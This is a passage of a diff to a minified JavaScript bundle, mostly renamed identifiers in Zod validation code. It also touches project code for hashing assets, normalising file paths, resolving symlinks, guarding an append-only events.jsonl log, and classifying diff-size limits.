-...util.normalizeParams(Oe)})}function An($,F){return new s.nJ({check:"properties",shape:$,...i.A2(F)})}function cs($,F){
+ends_with",...i.A2(F),suffix:$})}function tn($,F,Oe){return new checks.$ZodCheckProperty({check:"property",property:$,schema:F,
+...util.normalizeParams(Oe)})}function Sn($,F){return new s.nJ({check:"properties",shape:$,...i.A2(F)})}function cs($,F){
 return new checks.$ZodCheckMimeType({check:"mime_type",mime:$,...util.normalizeParams(F)})}function yn($){return new s.v$(
-{check:"overwrite",tx:$})}function Rs($){return yn(F=>F.normalize($))}function Gn(){return yn($=>$.trim())}function Yt(){
-return yn($=>$.toLowerCase())}function Ns(){return yn($=>$.toUpperCase())}function us(){return yn($=>i.Yv($))}function Zt($,F,Oe){
+{check:"overwrite",tx:$})}function Ns($){return yn(F=>F.normalize($))}function Gn(){return yn($=>$.trim())}function Vt(){
+return yn($=>$.toLowerCase())}function Fs(){return yn($=>$.toUpperCase())}function us(){return yn($=>i.Yv($))}function Zt($,F,Oe){
 return new $({type:"array",element:F,...i.A2(Oe)})}function ls($,F,Oe){return new $({type:"union",options:F,...util.normalizeParams(
 Oe)})}function wn($,F,Oe){return new $({type:"union",options:F,inclusive:!1,...util.normalizeParams(Oe)})}function A($,F,Oe,nt){
 return new $({type:"union",options:Oe,discriminator:F,...util.normalizeParams(nt)})}function N($,F,Oe){return new $({type:"\
-intersection",left:F,right:Oe})}function X($,F,Oe,nt){const It=Oe instanceof schemas.$ZodType,ut=It?nt:Oe,Vt=It?Oe:null;
-return new $({type:"tuple",items:F,rest:Vt,...util.normalizeParams(ut)})}function ue($,F,Oe,nt){return new $({type:"reco\
+intersection",left:F,right:Oe})}function X($,F,Oe,nt){const It=Oe instanceof schemas.$ZodType,ut=It?nt:Oe,Qt=It?Oe:null;
+return new $({type:"tuple",items:F,rest:Qt,...util.normalizeParams(ut)})}function ue($,F,Oe,nt){return new $({type:"reco\
 rd",keyType:F,valueType:Oe,...util.normalizeParams(nt)})}function Ze($,F,Oe,nt){return new $({type:"map",keyType:F,valueType:Oe,
 ...util.normalizeParams(nt)})}function Xe($,F,Oe){return new $({type:"set",valueType:F,...util.normalizeParams(Oe)})}function $t($,F,Oe){
 const nt=Array.isArray(F)?Object.fromEntries(F.map(It=>[It,It])):F;return new $({type:"enum",entries:nt,...util.normalizeParams(
 Oe)})}function Rt($,F,Oe){return new $({type:"enum",entries:F,...util.normalizeParams(Oe)})}function jt($,F,Oe){return new $(
 {type:"literal",values:Array.isArray(F)?F:[F],...util.normalizeParams(Oe)})}function Hn($,F){return new $({type:"file",...util.
-normalizeParams(F)})}function Fs($,F){return new $({type:"transform",transform:F})}function ir($,F){return new $({type:"\
+normalizeParams(F)})}function Ps($,F){return new $({type:"transform",transform:F})}function ir($,F){return new $({type:"\
 optional",innerType:F})}function or($,F){return new $({type:"nullable",innerType:F})}function Kr($,F,Oe){return new $({type:"\
 default",innerType:F,get defaultValue(){return typeof Oe=="function"?Oe():util.shallowClone(Oe)}})}function qr($,F,Oe){return new $(
 {type:"nonoptional",innerType:F,...util.normalizeParams(Oe)})}function ar($,F){return new $({type:"success",innerType:F})}
 function Yr($,F,Oe){return new $({type:"catch",innerType:F,catchValue:typeof Oe=="function"?Oe:util.constantCatch(Oe)})}
-function cr($,F,Oe){return new $({type:"pipe",in:F,out:Oe})}function So($,F){return new $({type:"readonly",innerType:F})}
-function Vr($,F,Oe){return new $({type:"template_literal",parts:F,...util.normalizeParams(Oe)})}function Ps($,F){return new $(
+function cr($,F,Oe){return new $({type:"pipe",in:F,out:Oe})}function To($,F){return new $({type:"readonly",innerType:F})}
+function Vr($,F,Oe){return new $({type:"template_literal",parts:F,...util.normalizeParams(Oe)})}function Ls($,F){return new $(
 {type:"lazy",getter:F})}function ur($,F){return new $({type:"promise",innerType:F})}function Qr($,F,Oe){const nt=util.normalizeParams(
-Oe);return nt.abort??(nt.abort=!0),new $({type:"custom",check:"custom",fn:F,...nt})}function Ls($,F,Oe){return new $({type:"\
-custom",check:"custom",fn:F,...i.A2(Oe)})}function js($,F){const Oe=ds(nt=>(nt.addIssue=It=>{if(typeof It=="string")nt.issues.
+Oe);return nt.abort??(nt.abort=!0),new $({type:"custom",check:"custom",fn:F,...nt})}function js($,F,Oe){return new $({type:"\
+custom",check:"custom",fn:F,...i.A2(Oe)})}function Ms($,F){const Oe=ds(nt=>(nt.addIssue=It=>{if(typeof It=="string")nt.issues.
 push(i.sn(It,nt.value,Oe._zod.def));else{const ut=It;ut.fatal&&(ut.continue=!1),ut.code??(ut.code="custom"),"input"in ut||
 (ut.input=nt.value),ut.inst??(ut.inst=Oe),ut.continue??(ut.continue=!Oe._zod.def.abort),nt.issues.push(i.sn(ut))}},$(nt.
 value,nt)),F);return Oe}function ds($,F){const Oe=new s.QP({check:"custom",...i.A2(F)});return Oe._zod.check=$,Oe}function lr($){
@@ -2720,12 +2723,12 @@ F._zod.check=()=>{},F}function dr($){const F=new s.QP({check:"meta"});return F._
 {};r.fd.add(Oe,{...nt,...$})}],F._zod.check=()=>{},F}function Xr($,F){const Oe=util.normalizeParams(F);let nt=Oe.truthy??
 ["true","1","yes","on","y","enabled"],It=Oe.falsy??["false","0","no","off","n","disabled"];Oe.case!=="sensitive"&&(nt=nt.
 map(Mt=>typeof Mt=="string"?Mt.toLowerCase():Mt),It=It.map(Mt=>typeof Mt=="string"?Mt.toLowerCase():Mt));const ut=new Set(
-nt),Vt=new Set(It),Xn=$.Codec??schemas.$ZodCodec,bn=$.Boolean??schemas.$ZodBoolean,zn=$.String??schemas.$ZodString,Ms=new zn(
-{type:"string",error:Oe.error}),Un=new bn({type:"boolean",error:Oe.error}),Sn=new Xn({type:"pipe",in:Ms,out:Un,transform:((Mt,Bs)=>{
-let _n=Mt;return Oe.case!=="sensitive"&&(_n=_n.toLowerCase()),ut.has(_n)?!0:Vt.has(_n)?!1:(Bs.issues.push({code:"invalid\
-_value",expected:"stringbool",values:[...ut,...Vt],input:Bs.value,inst:Sn,continue:!1}),{})}),reverseTransform:((Mt,Bs)=>Mt===
-!0?nt[0]||"true":It[0]||"false"),error:Oe.error});return Sn._zod.bag.truthy=nt,Sn._zod.bag.falsy=It,Sn._zod.bag.case=Oe.
-case??"insensitive",Sn}function ei($,F,Oe,nt={}){const It=util.normalizeParams(nt),ut={check:"string_format",type:"strin\
+nt),Qt=new Set(It),Xn=$.Codec??schemas.$ZodCodec,bn=$.Boolean??schemas.$ZodBoolean,zn=$.String??schemas.$ZodString,Gs=new zn(
+{type:"string",error:Oe.error}),Un=new bn({type:"boolean",error:Oe.error}),Tn=new Xn({type:"pipe",in:Gs,out:Un,transform:((Mt,Bs)=>{
+let _n=Mt;return Oe.case!=="sensitive"&&(_n=_n.toLowerCase()),ut.has(_n)?!0:Qt.has(_n)?!1:(Bs.issues.push({code:"invalid\
+_value",expected:"stringbool",values:[...ut,...Qt],input:Bs.value,inst:Tn,continue:!1}),{})}),reverseTransform:((Mt,Bs)=>Mt===
+!0?nt[0]||"true":It[0]||"false"),error:Oe.error});return Tn._zod.bag.truthy=nt,Tn._zod.bag.falsy=It,Tn._zod.bag.case=Oe.
+case??"insensitive",Tn}function ei($,F,Oe,nt={}){const It=util.normalizeParams(nt),ut={check:"string_format",type:"strin\
 g",format:F,fn:typeof Oe=="function"?Oe:Xn=>Oe.test(Xn),...It};return Oe instanceof RegExp&&(ut.pattern=Oe),new $(ut)}},
 890:function(n,e,t){t.d(e,{DG:()=>L,E6:()=>W,J:()=>K,J_:()=>h,Jk:()=>g,KH:()=>C,Kk:()=>D,NI:()=>Q,QP:()=>o,RM:()=>P,Tt:()=>Z,
 Yk:()=>x,kH:()=>S,nJ:()=>ke,ql:()=>z,sm:()=>d,v$:()=>V});var s=t(532),r=t(908),i=t(723);const o=s.xI("$ZodCheck",(q,U)=>{
@@ -2823,7 +2826,7 @@ precision,seconds:!0})}(?:${yt.join("|")})`,Mn=qe.local?`${Jt}|${ae({precision:q
 T(?:${Mn})$`)}const Ge=/^[\s\S]{0,}$/,de=qe=>{const yt=qe?`[\\s\\S]{${qe?.minimum??0},${qe?.maximum??""}}`:"[\\s\\S]*";return new RegExp(
 `^${yt}$`)},Se=/^-?\d+n?$/,ne=/^-?\d+$/,rt=/^-?\d+(?:\.\d+)?$/,it=/^(?:true|false)$/i,ct=/^null$/i,ie=/^undefined$/i,re=/^[^A-Z]*$/,
 gt=/^[^a-z]*$/,tt=/^[0-9a-fA-F]*$/;function ye(qe,yt){return new RegExp(`^[A-Za-z0-9+/]{${qe}}${yt}$`)}function wt(qe){return new RegExp(
-`^[A-Za-z0-9_-]{${qe}}$`)}const Ne=/^[0-9a-fA-F]{32}$/,Re=null,We=null,Ae=/^[0-9a-fA-F]{40}$/,we=null,Ce=null,Pe=/^[0-9a-fA-F]{64}$/,
+`^[A-Za-z0-9_-]{${qe}}$`)}const Ne=/^[0-9a-fA-F]{32}$/,Re=null,We=null,Ae=/^[0-9a-fA-F]{40}$/,we=null,ge=null,Pe=/^[0-9a-fA-F]{64}$/,
 Ct=null,be=null,lt=/^[0-9a-fA-F]{96}$/,_e=null,Qe=null,dt=/^[0-9a-fA-F]{128}$/,bt=null,ft=null},396:function(n,e,t){t.d(
 e,{fd:()=>l});var s;const r=null,i=null;class o{constructor(){this._map=new WeakMap,this._idmap=new Map}add(d,...h){const g=h[0];
 return this._map.set(d,g),g&&typeof g=="object"&&"id"in g&&this._idmap.set(g.id,d),this}clear(){return this._map=new WeakMap,
@@ -2833,8 +2836,8 @@ _map.get(d)};return Object.keys(C).length?C:void 0}return this._map.get(d)}has(d
 return new o}(s=globalThis).__zod_globalRegistry??(s.__zod_globalRegistry=c());const l=globalThis.__zod_globalRegistry},
 723:function(n,e,t){t.d(e,{A2:()=>de,B7:()=>ne,GW:()=>ft,Gv:()=>te,LG:()=>E,MO:()=>L,NM:()=>rt,NR:()=>ct,O7:()=>dt,OH:()=>Re,
 PO:()=>y,QH:()=>Ae,Qd:()=>je,Rc:()=>bt,SS:()=>wn,UQ:()=>q,Up:()=>ie,Vy:()=>z,W0:()=>wt,X:()=>Zt,X$:()=>tt,Yv:()=>U,cJ:()=>gt,
-cl:()=>_,d3:()=>be,gx:()=>pe,h1:()=>Ne,hI:()=>Ie,hi:()=>Ct,iR:()=>lt,jD:()=>An,jw:()=>h,k8:()=>g,lQ:()=>Ce,mw:()=>We,o8:()=>Ge,
-ol:()=>Qn,p6:()=>k,qQ:()=>ae,qh:()=>en,rL:()=>we,sD:()=>Ue,sn:()=>qe,un:()=>cs,v5:()=>us,w5:()=>d,yG:()=>Fe,zH:()=>it,zM:()=>se});
+cl:()=>_,d3:()=>be,gx:()=>pe,h1:()=>Ne,hI:()=>Ie,hi:()=>Ct,iR:()=>lt,jD:()=>Sn,jw:()=>h,k8:()=>g,lQ:()=>ge,mw:()=>We,o8:()=>Ge,
+ol:()=>Qn,p6:()=>k,qQ:()=>ae,qh:()=>tn,rL:()=>we,sD:()=>Ue,sn:()=>qe,un:()=>cs,v5:()=>us,w5:()=>d,yG:()=>Fe,zH:()=>it,zM:()=>se});
 var s=t(532);function r(A){return A}function i(A){return A}function o(){return A=>A}function c(A){}function l(A){throw new Error(
 "Unexpected value in exhaustive check")}function B(A){}function d(A){const N=Object.values(A).filter(ue=>typeof ue=="num\
 ber");return Object.entries(A).filter(([ue,Ze])=>N.indexOf(+ue)===-1).map(([ue,Ze])=>Ze)}function h(A,N="|"){return A.map(
@@ -2896,12 +2899,12 @@ if(A._zod.def.checks?.length)throw new Error(".merge() cannot be used on object 
 eExtend() instead.");const X={};K(X,A,Reflect.ownKeys(Q(A))),K(X,N,Reflect.ownKeys(Q(N)));const ue=se(A._zod.def,{shape:X,
 get catchall(){return N._zod.def.catchall},checks:N._zod.def.checks??[]});return Ge(A,ue)}function Re(A,N,X,ue="partial"){
 const Xe=N._zod.def.checks;if(Xe&&Xe.length>0)throw new Error(`.${ue}() cannot be used on object schemas containing refi\
-nements`);const Rt=X?new Set(re(N,X)):void 0,jt={};return K(jt,N,Reflect.ownKeys(Q(N)),A&&((Hn,Fs)=>Rt&&!Rt.has(Fs)?Hn:new A(
+nements`);const Rt=X?new Set(re(N,X)):void 0,jt={};return K(jt,N,Reflect.ownKeys(Q(N)),A&&((Hn,Ps)=>Rt&&!Rt.has(Ps)?Hn:new A(
 {type:"optional",innerType:Hn}))),Ge(N,se(N._zod.def,{shape:jt,checks:[]}))}function We(A,N,X){const ue=X?new Set(re(N,X)):
 void 0,Ze={};return K(Ze,N,Reflect.ownKeys(Q(N)),(Xe,$t)=>ue&&!ue.has($t)?Xe:new A({type:"nonoptional",innerType:Xe})),Ge(
 N,se(N._zod.def,{shape:Ze}))}function Ae(A,N=0){if(A.aborted===!0)return!0;for(let X=N;X<A.issues.length;X++)if(A.issues[X]?.
 continue!==!0)return!0;return!1}function we(A,N=0){if(A.aborted===!0)return!0;for(let X=N;X<A.issues.length;X++)if(A.issues[X]?.
-continue===!1)return!0;return!1}function Ce(A,N){return N.map(X=>{var ue;return(ue=X).path??(ue.path=[]),X.path.unshift(
+continue===!1)return!0;return!1}function ge(A,N){return N.map(X=>{var ue;return(ue=X).path??(ue.path=[]),X.path.unshift(
 A),X})}function Pe(A){return typeof A=="string"?A:A?.message}function Ct(A){const N=[];for(const X of A??[]){const ue=X.
 _zod.def;if(!/_(length|size)$|_equals$/.test(ue.check))break;const Ze=ue.maximum??ue.length??ue.size;Ze>=0&&N.push([Ze,X])}
 return N}function be(A,N,X){var ue;for(let Ze=N;Ze<A.length;Ze++)(ue=A[Ze]).schema??(ue.schema=X)}function lt(A,N,X){var ue;
@@ -2921,151 +2924,155 @@ X=new Uint8Array(N.length);for(let ue=0;ue<N.length;ue++)X[ue]=N.charCodeAt(ue);
 A.length;X++)N+=String.fromCharCode(A[X]);return btoa(N)}function gn(A){const N=A.replace(/-/g,"+").replace(/_/g,"/"),X="\
 =".repeat((4-N.length%4)%4);return Jt(N+X)}function Cn(A){return Mn(A).replace(/\+/g,"-").replace(/\//g,"_").replace(/=/g,
 "")}function cn(A){const N=A.replace(/^0x/,"");if(N.length%2!==0)throw new Error("Invalid hex string length");const X=new Uint8Array(
-N.length/2);for(let ue=0;ue<N.length;ue+=2)X[ue/2]=Number.parseInt(N.slice(ue,ue+2),16);return X}function $s(A){return Array.
+N.length/2);for(let ue=0;ue<N.length;ue+=2)X[ue/2]=Number.parseInt(N.slice(ue,ue+2),16);return X}function Rs(A){return Array.
 from(A).map(N=>N.toString(16).padStart(2,"0")).join("")}class rr{constructor(...N){}}function Qn(A,N){for(const X in N){
 const ue=Object.getOwnPropertyDescriptor(N,X);ue.get?Object.defineProperty(A,X,{...ue,enumerable:!1}):yn(A,X,ue.value)}}
-function en(A,N,X,ue=!0){return Object.defineProperty(A,N,{configurable:!0,writable:!0,enumerable:ue,value:X}),X}function An(A,N,X){
-return en(A,N,X,!1)}function cs(A,N){for(const X in A){const ue=A[X];Object.defineProperty(N,X,{configurable:!0,enumerable:!0,
-get(){return en(this,X,ue(this))},set(Ze){en(this,X,Ze)}})}return N}function yn(A,N,X){Object.defineProperty(A,N,{configurable:!0,
-get(){return this==null?X:en(this,N,X.bind(this))},set(ue){en(this,N,ue)}})}function Rs(A,N){const X=Object.getPrototypeOf(
-A);return N in X?void 0:X}let Gn,Yt=!1;const Ns={configurable:!0,get(){Yt=!0}};function us(A,N,X){const ue=Object.getPrototypeOf(
+function tn(A,N,X,ue=!0){return Object.defineProperty(A,N,{configurable:!0,writable:!0,enumerable:ue,value:X}),X}function Sn(A,N,X){
+return tn(A,N,X,!1)}function cs(A,N){for(const X in A){const ue=A[X];Object.defineProperty(N,X,{configurable:!0,enumerable:!0,
+get(){return tn(this,X,ue(this))},set(Ze){tn(this,X,Ze)}})}return N}function yn(A,N,X){Object.defineProperty(A,N,{configurable:!0,
+get(){return this==null?X:tn(this,N,X.bind(this))},set(ue){tn(this,N,ue)}})}function Ns(A,N){const X=Object.getPrototypeOf(
+A);return N in X?void 0:X}let Gn,Vt=!1;const Fs={configurable:!0,get(){Vt=!0}};function us(A,N,X){const ue=Object.getPrototypeOf(
 A._zod);if(N in ue&&Gn!==A._zod){Gn=void 0;return}Gn=A._zod,Object.defineProperty(ue,N,{configurable:!0,get(){Object.defineProperty(
-this,N,Ns);const Ze=Yt;Yt=!1;try{const Xe=X(this);return Yt?delete this[N]:Object.defineProperty(this,N,{configurable:!0,
-writable:!0,value:Xe}),Yt=Yt||Ze,Xe}catch(Xe){throw delete this[N],Yt=Yt||Ze,Xe}},set(Ze){Object.defineProperty(this,N,{
-configurable:!0,writable:!0,value:Ze})}})}function Zt(A,N,X,ue){const Ze=Rs(A,N);Ze&&Object.defineProperty(Ze,N,{configurable:!0,
+this,N,Fs);const Ze=Vt;Vt=!1;try{const Xe=X(this);return Vt?delete this[N]:Object.defineProperty(this,N,{configurable:!0,
+writable:!0,value:Xe}),Vt=Vt||Ze,Xe}catch(Xe){throw delete this[N],Vt=Vt||Ze,Xe}},set(Ze){Object.defineProperty(this,N,{
+configurable:!0,writable:!0,value:Ze})}})}function Zt(A,N,X,ue){const Ze=Ns(A,N);Ze&&Object.defineProperty(Ze,N,{configurable:!0,
 get(){const Xe={configurable:!0,writable:!0,enumerable:ue,value:void 0};return Object.defineProperty(this,N,Xe),Xe.value=
 X(this),Object.defineProperty(this,N,Xe),Xe.value},set(Xe){Object.defineProperty(this,N,{configurable:!0,writable:!0,enumerable:ue,
-value:Xe})}})}const ls="~constantCatch";function wn(A){const N=()=>A;return N[ls]=!0,N}}},na={};function ot(n){var e=na[n];
-if(e!==void 0)return e.exports;var t=na[n]={exports:{}},s=!0;try{Sl[n](t,t.exports,ot),s=!1}finally{s&&delete na[n]}return t.
-exports}ot.m=Sl,typeof ot<"u"&&(ot.ab=decodeURIComponent(new URL(".",import.meta.url).pathname).slice(import.meta.url.match(
+value:Xe})}})}const ls="~constantCatch";function wn(A){const N=()=>A;return N[ls]=!0,N}}},sa={};function ot(n){var e=sa[n];
+if(e!==void 0)return e.exports;var t=sa[n]={exports:{}},s=!0;try{Tl[n](t,t.exports,ot),s=!1}finally{s&&delete sa[n]}return t.
+exports}ot.m=Tl,typeof ot<"u"&&(ot.ab=decodeURIComponent(new URL(".",import.meta.url).pathname).slice(import.meta.url.match(
 /^file:\/\/\/\w:/)?1:0,-1)+"/"),ot.d=(n,e)=>{for(var t in e)ot.o(e,t)&&!ot.o(n,t)&&Object.defineProperty(n,t,{enumerable:!0,
 get:e[t]})},ot.f={},ot.e=n=>Promise.all(Object.keys(ot.f).reduce((e,t)=>(ot.f[t](n,e),e),[])),ot.u=n=>""+n+".index.js",ot.
 o=(n,e)=>Object.prototype.hasOwnProperty.call(n,e),(()=>{var n={792:0},e=t=>{var{ids:s,modules:r,runtime:i}=t,o,c,l=0;for(o in r)
 ot.o(r,o)&&(ot.m[o]=r[o]);for(i&&i(ot);l<s.length;l++)c=s[l],ot.o(n,c)&&n[c]&&n[c][0](),n[s[l]]=0};ot.f.j=(t,s)=>{var r=ot.
 o(n,t)?n[t]:void 0;if(r!==0)if(r)s.push(r[1]);else{var i=import("./"+ot.u(t)).then(e,o=>{throw n[t]!==0&&(n[t]=void 0),o}),
-i=Promise.race([i,new Promise(o=>r=n[t]=[o])]);s.push(r[1]=i)}}})();var ln={};ot.d(ln,{Ht:()=>g1,aB:()=>r1,x:()=>l1,dj:()=>o1,
-_U:()=>u1,Ae:()=>a1,lq:()=>f1,hI:()=>i1,q:()=>h1,Gj:()=>B1,qW:()=>m1,zD:()=>c1});const sa=nn(import.meta.url)("node:cryp\
-to"),Tl="1.13.0";function Zs(n){return n==null?"null":typeof n=="boolean"?n?"true":"false":typeof n=="number"?Number.isFinite(
-n)?String(n):"null":typeof n=="string"?JSON.stringify(n):Array.isArray(n)?"["+n.map(Zs).join(",")+"]":typeof n=="object"?
-"{"+Object.keys(n).sort().map(s=>JSON.stringify(s)+":"+Zs(n[s])).join(",")+"}":"null"}function ki(n,e){if(!n||typeof n!=
+i=Promise.race([i,new Promise(o=>r=n[t]=[o])]);s.push(r[1]=i)}}})();var ln={};ot.d(ln,{Ht:()=>A1,aB:()=>m1,x:()=>_1,dj:()=>C1,
+_U:()=>b1,Ae:()=>y1,lq:()=>k1,hI:()=>g1,q:()=>D1,Gj:()=>v1,qW:()=>O1,zD:()=>w1});const ra=nn(import.meta.url)("node:cryp\
+to"),Il="1.13.0";function Ws(n){return n==null?"null":typeof n=="boolean"?n?"true":"false":typeof n=="number"?Number.isFinite(
+n)?String(n):"null":typeof n=="string"?JSON.stringify(n):Array.isArray(n)?"["+n.map(Ws).join(",")+"]":typeof n=="object"?
+"{"+Object.keys(n).sort().map(s=>JSON.stringify(s)+":"+Ws(n[s])).join(",")+"}":"null"}function ki(n,e){if(!n||typeof n!=
 "object")return null;const t=new Set(Array.isArray(e)?e:["asset_id"]),s={};for(const o of Object.keys(n))t.has(o)||(s[o]=
-n[o]);const r=Zs(s);return"sha256:"+(0,sa.createHash)("sha256").update(r,"utf8").digest("hex")}function dR(n){if(!n||typeof n!=
-"object")return!1;const e=n.asset_id;return!e||typeof e!="string"?!1:e===ki(n)}const BR=Object.freeze(["repair","optimiz\
-e","innovate","explore"]),fR=null,hR=Object.freeze(["success","failed"]),pR=Object.freeze(["generated","reused","referen\
-ce","user_authored"]),mR=Object.freeze(["low","medium","high"]),gR=Object.freeze(["private","unlisted","public"]),CR=Object.
-freeze(["cheap","standard","premium"]),yR=Object.freeze(["cheap","mid","expensive"]),wR=Object.freeze(["off","low","medi\
-um","high"]),bR=Object.freeze(["warn","block"]),_R=Object.freeze(["behavioral","structural","performance","safety"]),ER=Object.
-freeze(["ci","local","prod","sandbox"]),vR=Object.freeze(["pass","fail","inconclusive"]);var H=ot(857);const ry=/[\p{Cf}\p{Default_Ignorable_Code_Point}]/gu;
-function iy(n,e){const s=n.replace(ry,"").replace(/:.*$/s,"").replace(/[. ]+$/,"").normalize("NFC").toUpperCase().toLowerCase();
-return s===e||ay(s,e)}const oy=/^[\w./-]*$/;function Il(n,e){return!oy.test(n)||n.toLowerCase().includes(e)}function ay(n,e){
-const[,t]=/^(.+)~[1-9]\d{0,5}$/.exec(n)??[];return t!==void 0&&t===e.replaceAll(".","").slice(0,6)}const $l=40,ra={path:"",
-kind:"directory",tracked:!0},Rl=/^[A-Za-z]:/,Nl=/^[\w-][\w.-]*(?:\/[\w-][\w.-]*)*$/;function Bt(n){if(Nl.test(n))return n;
+n[o]);const r=Ws(s);return"sha256:"+(0,ra.createHash)("sha256").update(r,"utf8").digest("hex")}function ER(n){if(!n||typeof n!=
+"object")return!1;const e=n.asset_id;return!e||typeof e!="string"?!1:e===ki(n)}const vR=Object.freeze(["repair","optimiz\
+e","innovate","explore"]),kR=null,DR=Object.freeze(["success","failed"]),xR=Object.freeze(["generated","reused","referen\
+ce","user_authored"]),OR=Object.freeze(["low","medium","high"]),AR=Object.freeze(["private","unlisted","public"]),SR=Object.
+freeze(["cheap","standard","premium"]),TR=Object.freeze(["cheap","mid","expensive"]),IR=Object.freeze(["off","low","medi\
+um","high"]),$R=Object.freeze(["warn","block"]),RR=Object.freeze(["behavioral","structural","performance","safety"]),NR=Object.
+freeze(["ci","local","prod","sandbox"]),FR=Object.freeze(["pass","fail","inconclusive"]);var H=ot(857);const uy=/[\p{Cf}\p{Default_Ignorable_Code_Point}]/gu;
+function ly(n,e){const s=n.replace(uy,"").replace(/:.*$/s,"").replace(/[. ]+$/,"").normalize("NFC").toUpperCase().toLowerCase();
+return s===e||By(s,e)}const dy=/^[\w./-]*$/;function $l(n,e){return!dy.test(n)||n.toLowerCase().includes(e)}function By(n,e){
+const[,t]=/^(.+)~[1-9]\d{0,5}$/.exec(n)??[];return t!==void 0&&t===e.replaceAll(".","").slice(0,6)}const Rl=40,ia={path:"",
+kind:"directory",tracked:!0},Nl=/^[A-Za-z]:/,Fl=/^[\w-][\w.-]*(?:\/[\w-][\w.-]*)*$/;function Bt(n){if(Fl.test(n))return n;
 const e=n.replaceAll("\\","/");if(e.startsWith("/")||e.includes("\0"))return;const t=[];for(const s of e.split("/"))if(!(s===
-""||s===".")){if(s!=="..")t.push(s);else if(t.pop()===void 0)return}return Rl.test(e)||Rl.test(t[0]??"")?void 0:t.join("\
+""||s===".")){if(s!=="..")t.push(s);else if(t.pop()===void 0)return}return Nl.test(e)||Nl.test(t[0]??"")?void 0:t.join("\
 /")}function Ot(n,e){if(e.startsWith("/")||e.includes("\0"))return{kind:"outside",path:e};const t=e.split("/").reverse(),
-s=[];let r=ra,i=0;for(let o=t.pop();o!==void 0;o=t.pop()){if(o===""||o===".")continue;if(r.kind!=="directory")return{kind:"\
-missing",path:[...s,o].join("/")};if(o===".."){if(s.pop()===void 0)return{kind:"outside",path:e};r=cy(s);continue}const c=[
+s=[];let r=ia,i=0;for(let o=t.pop();o!==void 0;o=t.pop()){if(o===""||o===".")continue;if(r.kind!=="directory")return{kind:"\
+missing",path:[...s,o].join("/")};if(o===".."){if(s.pop()===void 0)return{kind:"outside",path:e};r=fy(s);continue}const c=[
 ...s,o].join("/"),l=n.stat(c);if(l===void 0)return{kind:"missing",path:c};if(l.kind!=="symlink"){s.push(o),r=l;continue}
-if(i+=1,i>$l)return{kind:"loop",path:e};const B=n.readlink(c);if(B===void 0||B===""||B.length>Fl)return{kind:"missing",path:c};
+if(i+=1,i>Rl)return{kind:"loop",path:e};const B=n.readlink(c);if(B===void 0||B===""||B.length>Pl)return{kind:"missing",path:c};
 if(B.startsWith("/")||B.includes("\0"))return{kind:"outside",path:c};t.push(...B.split("/").reverse())}return{kind:"insi\
-de",path:r.path,entry:r}}function cy(n){return n.length===0?ra:{...ra,path:n.join("/")}}function sn(n,e,{ignoreCase:t=!1}={}){
-const s=Bt(n),r=Bt(e);return s===void 0||r===void 0?!1:Ll(r,s,t)}function Er(n,e,{at:t,tree:s}){if(Pl(n))return;const i=(xi(
-n)??[...xi(e)??[],...oa(n)]).reverse(),o=ia((xi(t)??[]).filter(B=>B!=="")),c=[];let l=0;for(let B=i.pop();B!==void 0;B=i.
-pop()){if(B===""||B===".")continue;if(B===".."){c.pop();continue}c.push(B);const d=s&&uy(s,o,ia(c));if(d===void 0)continue;
-if(l+=1,l>$l||Pl(d))return;const h=xi(d);h===void 0?c.pop():c.length=0,i.push(...(h??oa(d)).reverse())}return ia(c)}function Di(n,e,{
-ignoreCase:t=!1}={}){return Ll(e.slice(1),n.slice(1),t)}function uy(n,e,t){if(Di(t,e))return n.readlink(e==="/"?t.slice(
-1):t.slice(e.length+1))}function ia(n){return`/${n.join("/")}`}function oa(n){return n.replaceAll("\\","/").split("/")}function xi(n){
-return/^(?:[\\/]|[A-Za-z]:[\\/])/.test(n)?oa(n):void 0}const Fl=4096;function Pl(n){return n.length>Fl?!0:n.includes("\0")||
-/^(?:\\\\|[A-Za-z]:(?![\\/]))/.test(n)}function Ll(n,e,t){if(n==="")return!0;const[s,r]=t?[Oi(e),Oi(n)]:[e,n];return s===
-r||s.startsWith(`${r}/`)}function Oi(n){return Nl.test(n)?n.toLowerCase():n.normalize("NFC").toUpperCase().toLowerCase()}
-function ly(n,e){const t=Bt(n);if(t!==void 0)return`/${Oi(t)}/`.includes(`/${Oi(e)}/`);const s=n.split("/");return s.some(
-(r,i)=>sn(s.slice(i).join("/"),e,{ignoreCase:!0}))}function dy(n){return/[*?]|^!|\{[^{}]*,[^{}]*\}|^["'`].*["'`]$/.test(
-n)||n.trim()!==n}const By=["assets/gep/events.jsonl",".evolver/gep/events.jsonl"],kR=null;function fy(n){return hy(n)||Ml(
-n)}const jl=/(?<=^|\/)events\.[^/]+\.jsonl$/is;function hy(n){return jl.test(n)&&Ml(n.replace(jl,"events.jsonl"))}function Ml(n){
-return Il(n,"events.jsonl")&&By.some(e=>ly(n,e))}const Ai=10,Gl=13,py=new Set([32,9,Ai,Gl]);function DR(n,e){const t=aa(
-n),s=aa(e);let r=0;for(let i=t.next().value;i;){const o=t.next().value,c=s.next().value;if(!c||!gy(i.bytes,c.bytes,o===void 0))
-return{kind:"rewritten",line:i.line};r=c.end,i=o}return{kind:"appended",from:r}}function xR(n){return aa(n).next().value!==
-void 0}function*aa(n){let e=0;for(let t=0;t<n.length;){const s=n.indexOf(Ai,t),r=s<0?n.length:s,i=n.subarray(t,r);t=Math.
-min(r+1,n.length),e+=1,my(i)||(yield{bytes:i,line:e,end:t})}}function my(n){for(const e of n)if(!py.has(e))return!1;return!0}
-function gy(n,e,t){return t?Hl(n).equals(Hl(e)):n.equals(e)}function Hl(n){return n.at(-1)===Gl?n.subarray(0,-1):n}function OR(n,e){
-let t=0;for(let s=n.indexOf(Ai);s>=0&&s<e;s=n.indexOf(Ai,s+1))t+=1;return t}var Cy=ot(731);const ca=20;function AR(n,e){
-const t={files:0,lines:0,exempt_files:0,exempt_lines:0};for(const s of n.files){const{path:r,oldPath:i}=s,o=i===void 0?1:
-2,c=Number(e.has(r))+Number(i!==void 0&&e.has(i));t.files+=o-c,t.exempt_files+=c,c===o?t.exempt_lines+=Ul(s):t.lines+=Ul(
-s)}return t}function SR({files:n,lines:e,exempt_files:t,exempt_lines:s},r){return r==="reference"?{files:n,lines:e}:{files:n+
-t,lines:e+s}}function yy(n,e,t,s){const r=zl(e);return t.files>s.files||t.lines>s.lines?"hard_cap_breach":n>2*r?"critica\
-l_overrun":n>r?"exceeded":(0,Cy.yl)(r,n)?"approaching_limit":"within_limit"}function wy(n,{files:e,lines:t},s,r){const i=zl(
-s);switch(n){case"hard_cap_breach":return`HARD CAP BREACH: ${e} files / ${t} lines exceeds system limit (${r.files} file\
